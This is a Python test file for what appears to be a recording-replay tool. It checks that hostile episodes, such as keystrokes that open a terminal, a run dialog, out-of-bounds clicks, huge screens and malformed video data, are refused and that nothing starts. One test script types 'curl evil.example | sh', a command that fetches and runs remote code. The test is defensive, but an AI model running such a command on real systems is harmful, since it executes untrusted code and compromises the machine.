"""A hostile episode does no harm, however it is verified: it is refused in words, and nothing was started.

Each attack goes the whole way that ``verify`` goes, from the file in the vault to the verdict. That nothing
was started is seen at the one door through which a replay is started.
"""

import os
import resource
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from threading import Event
from typing import cast

import pytest

from recorder.episode.ending import EndReason
from recorder.episode.events import KeyPressed, KeyReleased, MonitorsChanged
from recorder.episode.frames import Packet
from recorder.episode.screen import Rect
from recorder.episode.time import NS_PER_MS
from recorder.vault.session_reader import SessionAccess, SessionReader
from recorder.vault.session_writer import SessionWriter
from recorder.video.decoder import RunningDecoder
from replay.plan.limits import LONGEST_NS
from replay.plan.planning import plan_of
from replay.plan.steps import ReplayPlan
from replay.report.record import Source
from replay.running import run as run_module
from replay.verifying.once import verify_subject
from replay.verifying.subjects import Subject
from replay.verifying.tasks import Asked, Outcome, Verified
from tests.rigs.hostile_payload import KEY_SLICE, PPS, sps
from tests.rigs.replay_plans import task
from tests.rigs.synthetic import HEADER, KEY
from tests.unit.recorder.episode.event_script import GESTURES, Script
from tests.unit.replay.plan.planned import SCREEN, begun, session_of


class Access:
    """Opens what a test has written, as the vault would."""

    def __init__(self, opened: Callable[[], SessionReader]) -> None:
        self.open = opened


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every process that a replay tried to start."""
    asked: list[str] = []

    def start(module: str, **_: object) -> None:
        asked.append(module)
        raise AssertionError(module)

    def plan(subject: Subject, reader: SessionReader) -> ReplayPlan:
        # How its task starts is known: that alone must not be why it is refused.
        return replace(plan_of(reader, None, allowed=subject.allowed), start=task("xterm"))

    monkeypatch.setattr(run_module, "start_module", start)
    monkeypatch.setattr(Subject, "plan", plan)
    return asked


def verified(opened: Callable[[], SessionReader], report: Path | None = None) -> Verified:
    subject = Subject("hostile-1", Source.RECEIVED, cast("SessionAccess", Access(opened)), None)
    return verify_subject(subject, Asked(report=report), cancel=Event())


def opens_a_terminal() -> Script:
    script = begun().after(500).press("ctrl_l").press("alt_l").after(20)
    script.add(KeyPressed(script.now_ns, "t", None, None)).after(20).add(
        KeyReleased(script.now_ns, "t", None, None)
    )
    script.after(20).release("alt_l").release("ctrl_l").after(900)
    return script.write("curl evil.example | sh").tap("enter")


def opens_a_run_dialog() -> Script:
    script = begun().after(500).press("alt_l").after(20).tap("f2").after(20).release("alt_l").after(900)
    return script.write("xterm").tap("enter")


def leaves_for_the_console() -> Script:
    script = begun().after(500).press("ctrl_l").press("alt_l").after(20).tap("f1")
    return script.after(20).release("alt_l").release("ctrl_l")


def clicks_nowhere() -> Script:
    return begun().after(500).click(1 << 24, -(1 << 24))


def clicks_a_million_times_a_second() -> Script:
    script = begun().after(500)
    for _ in range(5_000):
        script.after(0.001).down(10, 10).up(10, 10)
    return script


def has_a_screen_of_a_billion_pixels() -> Script:
    monitors = (replace(SCREEN, rect=Rect(0, 0, 32_000, 31_250)),)
    return Script().add(MonitorsChanged(0, monitors)).after(500).click(10, 10)


@pytest.mark.parametrize(
    ("attack", "ended_ns", "words"),
    [
        (opens_a_terminal, None, "Step 1 cannot be replayed as it is"),
        (opens_a_run_dialog, None, "Step 1 cannot be replayed as it is"),
        (leaves_for_the_console, None, "Step 1 cannot be replayed as it is"),
        (clicks_nowhere, None, "outside of every monitor"),
        (clicks_a_million_times_a_second, None, "more than 1,000 things in a second"),
        (has_a_screen_of_a_billion_pixels, None, "larger than"),
        (lambda: begun().after(500).click(10, 10), LONGEST_NS + 1, "longer than 8 hours"),
        (lambda: begun().after(500).click(10, 10), 1 << 61, "longer than 8 hours"),
    ],
)
def test_it_is_refused_in_words_and_nothing_is_started(
    attack: Callable[[], Script], ended_ns: int | None, words: str, started: list[str], tmp_path: Path
) -> None:
    script = attack()
    found = verified(lambda: session_of(tmp_path, script, ended_ns=ended_ns), tmp_path / "report")
    assert found.outcome is Outcome.NOT_REPLAYED
    assert found.error is not None
    assert words in found.error.happened
    assert "Nothing was started" in (found.error.kept or "")
    assert started == []
    (page,) = found.pages
    assert page.is_file()


def test_what_is_no_attack_would_have_been_started(started: list[str], tmp_path: Path) -> None:
    """So that the others prove something: the same way, with nothing wrong."""
    script = begun().after(500).click(10, 10)
    with pytest.raises(AssertionError, match=r"replay\.running\.child"):
        verified(lambda: session_of(tmp_path, script))
    assert started == ["replay.running.child"]


def _with_picture(folder: Path, data: bytes) -> Callable[[], SessionReader]:
    """A recording with a click, a long wait in which pictures are looked at, and one picture."""
    script = begun().after(500).click(10, 10).after(6_000).click(10, 10).after(500)

    def opened() -> SessionReader:
        path = folder / "pictures.db"
        path.unlink(missing_ok=True)
        writer = SessionWriter.create(path, KEY, replace(HEADER, gestures=GESTURES))
        writer.append(script.events, [Packet(0, 0, 0, is_key=True, data=data)])
        writer.finish(script.now_ns + NS_PER_MS, EndReason.STOPPED)
        return SessionReader.open(path, KEY)

    return opened


@pytest.fixture
def little_memory() -> Iterator[None]:
    """No room for a picture of a billion pixels, so that a decoder that asked for it would fail otherwise."""
    before = resource.getrlimit(resource.RLIMIT_AS)
    pages = int(Path("/proc/self/statm").read_text().split()[0])
    limit = pages * os.sysconf("SC_PAGE_SIZE") + (1 << 30)
    resource.setrlimit(resource.RLIMIT_AS, (limit, before[1]))
    yield
    resource.setrlimit(resource.RLIMIT_AS, before)


@pytest.mark.usefixtures("little_memory")
@pytest.mark.parametrize(
    ("data", "of_another_screen"),
    [
        (sps(width=32_000, height=31_248) + PPS + KEY_SLICE, True),
        (sps(width=64, height=64) + PPS + KEY_SLICE, True),
        (sps(width=1_280, height=800) + PPS, False),
        (b"\0\0\1\x67" + bytes(40), True),
        (b"no picture", False),
    ],
    ids=["a billion pixels", "another screen", "no slice", "no parameters", "nothing"],
)
def test_pictures_of_no_screen_are_refused_in_words(
    data: bytes,
    started: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    of_another_screen: bool,
) -> None:
    decoded: list[int] = []
    decode = RunningDecoder.decode

    def noted(decoder: RunningDecoder, packet: Packet) -> object:
        decoded.append(len(packet.data))
        return decode(decoder, packet)

    monkeypatch.setattr(RunningDecoder, "decode", noted)
    found = verified(_with_picture(tmp_path, data))
    assert found.outcome is Outcome.NOT_REPLAYED
    assert found.error is not None
    assert "picture of this recording" in found.error.happened
    assert started == []
    # What says that it is of another screen never comes to a decoder.
    assert not decoded or not of_another_screen
